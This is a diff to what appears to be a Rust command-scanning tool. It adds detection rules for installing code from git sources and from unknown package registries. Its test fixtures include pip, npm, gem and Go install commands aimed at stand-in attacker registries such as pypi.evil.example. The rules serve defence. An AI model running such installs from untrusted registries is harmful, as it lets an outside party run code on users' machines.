@@ -2,9 +2,12 @@
 
 use super::{Rule, Shelf, When};
 use crate::{
+    effect::Kinds,
     finding::{Category, Confidence},
     risk::Severity,
 };
+
+mod registry;
 
 pub(super) static SHELF: Shelf = Shelf {
     programs: &[
@@ -32,6 +35,7 @@ pub(super) static SHELF: Shelf = Shelf {
         "eopkg",
         "flatpak",
         "gem",
+        "gh",
         "go",
         "gradle",
         "gradlew",
@@ -134,6 +138,7 @@ static RULES: &[Rule] = &[
         when: When::Command(&[
             "pip|pip3|pipx|uv|poetry … git+*|git@*|*@git+*|hg+*|svn+*",
             "npm|pnpm|yarn|bun install|i|add git+*|git:*|git@*|github:*|*/*.git",
+            "gh extension install|upgrade",
             "cargo install --git",
             "uv add --git",
             "poetry add --git",
@@ -146,6 +151,7 @@ static RULES: &[Rule] = &[
             "pip install git+https://github.com/o/r",
             "cargo install --git https://github.com/o/r",
             "npm i github:o/r",
+            "gh extension install o/gh-r",
             "go run github.com/o/r/cmd@latest",
         ],
         quiet: &[
@@ -153,6 +159,33 @@ static RULES: &[Rule] = &[
             "pip install requests",
             "go run ./cmd/server",
             "go install ./...",
+        ],
+        ..Rule::CHANGE
+    },
+    Rule {
+        id: "package.index.unknown",
+        severity: Severity::High,
+        confidence: Confidence::Medium,
+        message: "packages are taken from a registry that is none of the well-known ones; whoever keeps it decides what runs here",
+        remedy: "let a person name the registry in the project's own settings",
+        when: When::Effect(Kinds::RUN.and(Kinds::ENVIRONMENT), registry::unknown),
+        fires: &[
+            "pip install --index-url https://pypi.evil.example/simple x",
+            "npm install --registry https://npm.evil.example x",
+            "gem install x --source https://gems.evil.example",
+            "PIP_INDEX_URL=https://pypi.evil.example/simple pip install x",
+            "GOPROXY=https://go.evil.example go get ./...",
+            "npm_config_registry=https://npm.evil.example npm ci",
+        ],
+        quiet: &[
+            "pip install torch --index-url https://download.pytorch.org/whl/cpu",
+            "npm ci --registry https://registry.npmjs.org/",
+            "npm i --registry http://localhost:4873 x",
+            "GOPROXY=https://proxy.golang.org,direct go get ./...",
+            "GOPROXY=off go build ./...",
+            "npm install --registry https://npm.internal x",
+            "conda install -c conda-forge numpy",
+            "pip install -i \"$INDEX\" x",
         ],
         ..Rule::CHANGE
     },
